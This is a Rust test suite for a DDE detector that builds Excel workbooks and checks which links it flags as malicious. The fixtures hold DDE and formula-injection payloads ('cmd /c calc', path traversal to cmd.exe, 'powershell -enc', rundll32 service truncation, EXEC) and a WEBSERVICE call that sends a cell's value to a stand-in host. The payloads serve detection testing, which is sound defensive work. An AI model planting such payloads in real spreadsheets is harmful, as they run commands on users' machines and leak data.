//! Workbooks of markup: §1.9, and the ordinary ones that must stay silent.

use ddetect::{Carrier, Kind, Severity, Trigger, Verdict};

use super::support::package::{Package, R, content_types, rels};
use super::support::xlsx::{S, S_STRICT, Workbook, dde_link, external_link};
use super::support::{analyze, dde, techniques, triples};
use super::{image, only, triple};

#[test]
fn case_1_as_excel_writes_it() {
    let report = analyze(
        &Workbook::new()
            .formula("B4", "[1]!_xlbgnm.A1")
            .dde("cmd", "/c calc.exe", &["_xlbgnm.A1"])
            .build(),
    );
    let finding = only(&report);
    assert_eq!(triples(&report), [triple("cmd", "/c calc.exe", "A1")]);
    assert_eq!(finding.used_by, ["Tabelle1!B4"]);
    assert_eq!(finding.carrier, Carrier::DdeLinkPart);
    assert_eq!(
        (finding.kind, finding.trigger),
        (Kind::DdeAuto, Trigger::Open)
    );
    assert_eq!(finding.severity, Severity::Critical);
    assert_eq!(image(finding), Some("cmd.exe"));
    assert_eq!(finding.command.as_ref().unwrap().line, "cmd /c calc.exe");
    assert_eq!(
        finding.command.as_ref().unwrap().arguments.as_deref(),
        Some("/c calc.exe")
    );
    assert_eq!(report.verdict(), Verdict::Malicious);
}

#[test]
fn case_2_escapes_and_an_item_without_a_name() {
    let link = "<ddeLink ddeService=\"_x0063__x006d_d\" ddeTopic=\"/c&#32;calc\"><ddeItems><ddeItem/>\
                </ddeItems></ddeLink>";
    let report = analyze(&Workbook::new().link(link).build());
    assert_eq!(triples(&report), [triple("cmd", "/c calc", "0")]);
    assert!(techniques(only(&report)).contains(&"x-escapes"));
    assert_eq!(report.verdict(), Verdict::Malicious);
}

#[test]
fn case_3_strict_and_traversal() {
    let topic = r"\..\..\..\Windows\System32\cmd.exe /c calc.exe";
    let part = external_link(&dde_link("MSEXCEL", topic, &["_xlbgnm.A1"])).replace(S, S_STRICT);
    let package = Workbook::new()
        .formula("A1", "[1]!_xlbgnm.A1")
        .dde("x", "y", &[])
        .package();
    let report = analyze(
        &package
            .part("xl/externalLinks/externalLink1.xml", part)
            .build(),
    );
    assert_eq!(triples(&report), [triple("MSEXCEL", topic, "A1")]);
    let finding = only(&report);
    assert_eq!(image(finding), Some("cmd.exe"));
    assert!(techniques(finding).contains(&"path-traversal"));
    assert!(techniques(finding).contains(&"strict-namespace"));
    assert_eq!(report.verdict(), Verdict::Malicious);
}

#[test]
fn case_4_references_count_in_document_order() {
    let item = "INDU Index,[PX_close_5d]";
    let workbook = format!(
        "<workbook xmlns=\"{S}\" xmlns:r=\"{R}\"><sheets><sheet name=\"S\" sheetId=\"1\" r:id=\"rId1\"/>\
         </sheets><externalReferences><externalReference r:id=\"rId9\"/>\
         <externalReference r:id=\"rId2\"/></externalReferences></workbook>"
    );
    let report = analyze(
        &Workbook::new()
            .formula("D2", &format!("[2]!'{item}'"))
            .package()
            .part("xl/workbook.xml", workbook)
            .part(
                "xl/_rels/workbook.xml.rels",
                rels(&[
                    ("rId1", "worksheet", "worksheets/sheet1.xml", false),
                    (
                        "rId2",
                        "externalLink",
                        "externalLinks/externalLink1.xml",
                        false,
                    ),
                    (
                        "rId9",
                        "externalLink",
                        "externalLinks/externalLink2.xml",
                        false,
                    ),
                ]),
            )
            .part(
                "xl/externalLinks/externalLink1.xml",
                external_link(&dde_link("BLP", "M", &[item])),
            )
            .part(
                "xl/externalLinks/externalLink2.xml",
                external_link("<externalBook/>"),
            )
            .build(),
    );
    assert_eq!(triples(&report), [triple("BLP", "M", item)]);
    assert_eq!(only(&report).used_by, ["S!D2"]);
    assert_eq!(report.verdict(), Verdict::Clean, "{report:#?}");
}

#[test]
fn case_5_in_a_fallback_of_an_oddly_named_part() {
    let mc = "http://schemas.openxmlformats.org/markup-compatibility/2006";
    let content = format!(
        "<mc:AlternateContent xmlns:mc=\"{mc}\"><mc:Choice Requires=\"z\"/><mc:Fallback>{}\
         </mc:Fallback></mc:AlternateContent>",
        dde_link("cmd", "/c calc", &["zz"])
    );
    let kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml";
    let workbook = format!(
        "<workbook xmlns=\"{S}\" xmlns:r=\"{R}\"><externalReferences>\
         <externalReference r:id=\"rId5\"/></externalReferences></workbook>"
    );
    let report = analyze(
        &Package::empty()
            .part(
                "[Content_Types].xml",
                content_types(&[("/custom/abc.dat", kind)]),
            )
            .part(
                "_rels/.rels",
                rels(&[("rId1", "officeDocument", "/XL/Book.dat", false)]),
            )
            .part("xl/book.dat", workbook)
            .part(
                "xl/_rels/book.dat.rels",
                rels(&[("rId5", "externalLink", "/custom/abc.dat", false)]),
            )
            .part("custom/abc.dat", external_link(&content))
            .build(),
    );
    assert_eq!(triples(&report), [triple("cmd", "/c calc", "zz")]);
    assert!(!techniques(only(&report)).contains(&"unreachable"));
}

#[test]
fn case_6_text_is_inert() {
    let report = analyze(&Workbook::new().shared_string("=cmd|'/c calc'!A0").build());
    assert!(dde(&report).is_empty());
    let inert: Vec<_> = report
        .findings()
        .iter()
        .filter(|f| f.kind == Kind::Inert)
        .collect();
    assert_eq!(inert.len(), 1, "{report:#?}");
    assert_eq!(inert[0].trigger, Trigger::None);
    assert!(inert[0].severity <= Severity::Low);
    assert_eq!(report.verdict(), Verdict::Clean);
}

/// §1.3: texts are information whatever is in them, and mean no link of the workbook.
#[test]
fn shared_strings_are_never_more_than_information() {
    for text in [
        "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A1",
        "+powershell|'-enc AAAA'!A0",
        "@SUM(1+9)*cmd|'/c calc'!A0",
        "=DDE(\"cmd\";\"/c calc\";\"x\")",
        "=WEBSERVICE(\"http://example.invalid/\")",
        "=EXEC(\"calc\")",
        "=[1]!ask",
    ] {
        let book = Workbook::new().dde("MT4", "QUOTE", &["ask"]);
        let report = analyze(&book.shared_string(text).build());
        assert_eq!(report.verdict(), Verdict::Clean, "{text}: {report:#?}");
        assert!(report.complete());
        for finding in report.findings() {
            assert!(finding.severity <= Severity::Low, "{text}");
            assert!(
                finding
                    .used_by
                    .iter()
                    .all(|user| !user.contains("Tabelle1"))
            );
        }
    }
}

/// What type a cell says its value has does not touch its formula.
#[test]
fn a_formula_counts_in_cells_of_every_type() {
    for kind in ["s", "str", "inlineStr", "n", "b", "e", "d", "x"] {
        for value in ["<v>0</v>", "<is><t>x</t></is>", ""] {
            for formula in ["<f>cmd|'/c calc'!A0</f>{}", "{}<f>cmd|'/c calc'!A0</f>"] {
                let cell = formula.replace("{}", value);
                let rows = format!(
                    "<sheetData><row r='3'><c r='B3' t='{kind}'>{cell}</c></row></sheetData>"
                );
                let report = analyze(&Workbook::new().after_data(&rows).build());
                assert_eq!(triples(&report), [triple("cmd", "/c calc", "A0")], "{cell}");
                assert_eq!(only(&report).used_by, ["Tabelle1!B3"]);
                assert_eq!(report.verdict(), Verdict::Malicious);
            }
        }
    }
}

#[test]
fn a_service_longer_than_eight_characters_is_cut() {
    let report = analyze(
        &Workbook::new()
            .dde(
                "rundll321234567890abcdef",
                "URL.dll,OpenURL calc.exe",
                &["A"],
            )
            .build(),
    );
    assert_eq!(image(only(&report)), Some("rundll32.exe"));
    assert!(techniques(only(&report)).contains(&"service-truncation"));
    assert_eq!(report.verdict(), Verdict::Malicious);
}

#[test]
fn a_cell_uses_the_second_of_several_items() {
    let report = analyze(
        &Workbook::new()
            .formula("A1", "SUM([1]!bid,1)")
            .formula("A2", "[1]!ask")
            .formula("A3", "[1]!ask*2")
            .dde("MT4", "QUOTE", &["bid", "ask"])
            .build(),
    );
    let used: Vec<_> = dde(&report)
        .iter()
        .map(|f| (f.item.clone(), f.used_by.clone()))
        .collect();
    assert_eq!(
        used,
        [
            (Some("bid".to_owned()), vec!["Tabelle1!A1".to_owned()]),
            (
                Some("ask".to_owned()),
                vec!["Tabelle1!A2".to_owned(), "Tabelle1!A3".to_owned()]
            ),
        ]
    );
    assert_eq!(report.verdict(), Verdict::Clean, "{report:#?}");
}

#[test]
fn a_hidden_sheet_is_told() {
    for (state, id) in [
        ("hidden", "hidden-sheet"),
        ("veryHidden", "very-hidden-sheet"),
    ] {
        let report = analyze(
            &Workbook::new()
                .state(state)
                .formula("A1", "[1]!x")
                .dde("cmd", "/c calc", &["x"])
                .build(),
        );
        assert!(techniques(only(&report)).contains(&id), "{report:#?}");
    }
}

#[test]
fn other_books_are_links_not_dde() {
    let book = |target: &str| {
        Workbook::new()
            .formula("A1", "SUM([1]Sheet1!A1:A3)")
            .link("<externalBook r:id=\"rId1\"/>")
            .link_rels(rels(&[("rId1", "externalLinkPath", target, true)]))
            .build()
    };
    for target in [
        "prices.xlsx",
        "file:///C:/data/prices.xlsx",
        r"\\server\share\prices.xlsx",
    ] {
        let report = analyze(&book(target));
        assert!(dde(&report).is_empty(), "{target}");
        let links: Vec<_> = report
            .findings()
            .iter()
            .filter(|f| f.carrier == Carrier::ExternalWorkbook)
            .collect();
        assert_eq!(links.len(), 1, "{target}: {report:#?}");
        assert_eq!(links[0].target.as_deref(), Some(target));
        assert_eq!(report.verdict(), Verdict::Clean, "{report:#?}");
    }
}

#[test]
fn ordinary_formulas_are_silent() {
    let report = analyze(
        &Workbook::new()
            .formula("A1", "IF(B1>1,\"a|b!c\",'x|y'!A1)")
            .formula("A2", "SUM(A1:A9)*_xlfn.XLOOKUP(1,B1:B9,C1:C9)")
            .formula("A3", "{1,2|3!4}")
            .shared_string("3 for 2 | today only! buy")
            .shared_string("2017 | Happy New Year!")
            .build(),
    );
    assert_eq!(report.verdict(), Verdict::Clean, "{report:#?}");
    assert!(report.findings().is_empty(), "{report:#?}");
}

#[test]
fn fetching_functions_are_links() {
    let report = analyze(
        &Workbook::new()
            .formula(
                "A1",
                "_xlfn.WEBSERVICE(\"http://example\"&\".invalid/?\"&B1)",
            )
            .build(),
    );
    let found: Vec<_> = report
        .findings()
        .iter()
        .filter(|f| f.carrier == Carrier::Function)
        .collect();
    assert_eq!(found.len(), 1, "{report:#?}");
    assert!(
        found[0]
            .target
            .as_deref()
            .unwrap()
            .starts_with("http://example.invalid/?")
    );
    assert!(report.verdict() <= Verdict::Suspicious);
}
